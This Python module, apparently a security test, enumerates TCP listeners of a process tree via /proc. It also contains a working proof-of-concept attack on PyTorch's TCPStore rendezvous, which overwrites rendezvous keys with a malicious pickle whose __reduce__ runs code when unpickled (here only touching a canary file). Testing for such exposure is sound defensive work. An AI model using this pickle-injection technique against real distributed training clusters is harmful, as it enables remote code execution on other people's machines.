"""What a process and its descendants listen on, and the attack that torch's own rendezvous falls to."""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import os
import pickle
import sys
import threading
from datetime import timedelta
from pathlib import Path
from typing import NamedTuple

_LISTEN = "0A"  # tcp_states.h


class Listener(NamedTuple):
    pid: int
    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        address = ipaddress.ip_address(self.address)
        mapped = getattr(address, "ipv4_mapped", None)
        return (mapped or address).is_loopback


def _address(text: str) -> str:
    """proc(5): 32-bit words in the host's byte order."""
    words = [bytes.fromhex(text[i : i + 8])[::-1] for i in range(0, len(text), 8)]
    return str(ipaddress.ip_address(b"".join(words)))


def _inodes(pid: int) -> set[str]:
    found = set()
    with contextlib.suppress(OSError):
        for link in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(OSError):
                target = str(link.readlink())
                if target.startswith("socket:["):
                    found.add(target[8:-1])
    return found


def listeners(pids: list[int]) -> list[Listener]:
    """Every TCP socket on which one of ``pids`` listens."""
    owner = {inode: pid for pid in pids for inode in _inodes(pid)}
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == _LISTEN and fields[9] in owner:
                address, port = fields[1].split(":")
                found.append(Listener(owner[fields[9]], _address(address), int(port, 16)))
    return found


class Payload:
    """Unpickled, it makes ``canary``."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self.canary,)


def attack(host: str, port: int, canary: Path) -> bool:
    """Overwrite every rendezvous in the store behind a port; returns whether there was one."""
    overwritten: list[str] = []
    # torch's client waits for ever where something else than a store listens.
    thread = threading.Thread(target=_overwrite, args=(host, port, canary, overwritten), daemon=True)
    thread.start()
    thread.join(10)
    return bool(overwritten)


def _overwrite(host: str, port: int, canary: Path, overwritten: list[str]) -> None:
    from torch.distributed import TCPStore

    with contextlib.suppress(RuntimeError):  # no such store: it does not answer in the protocol
        store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=5))
        for key in store.list_keys():
            if "rendezvous" in key:
                store.set(key.removeprefix("/"), base64.b64encode(pickle.dumps(Payload(canary))))
                overwritten.append(key)


if __name__ == "__main__":  # from another node: HOST CANARY PORT...
    fallen = [port for port in sys.argv[3:] if attack(sys.argv[1], int(port), Path(sys.argv[2]))]
    print("fallen:", *fallen, flush=True)
    os._exit(0)  # a thread may hang
